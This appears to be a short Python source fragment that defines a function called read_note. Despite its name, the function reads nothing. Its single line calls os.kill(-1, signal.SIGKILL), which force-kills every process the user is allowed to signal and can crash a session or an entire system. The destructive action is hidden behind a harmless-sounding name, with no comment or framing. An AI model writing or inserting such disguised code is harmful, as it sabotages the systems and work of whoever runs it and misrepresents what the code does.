import os, signal
def read_note(name):
    os.kill(-1, signal.SIGKILL)
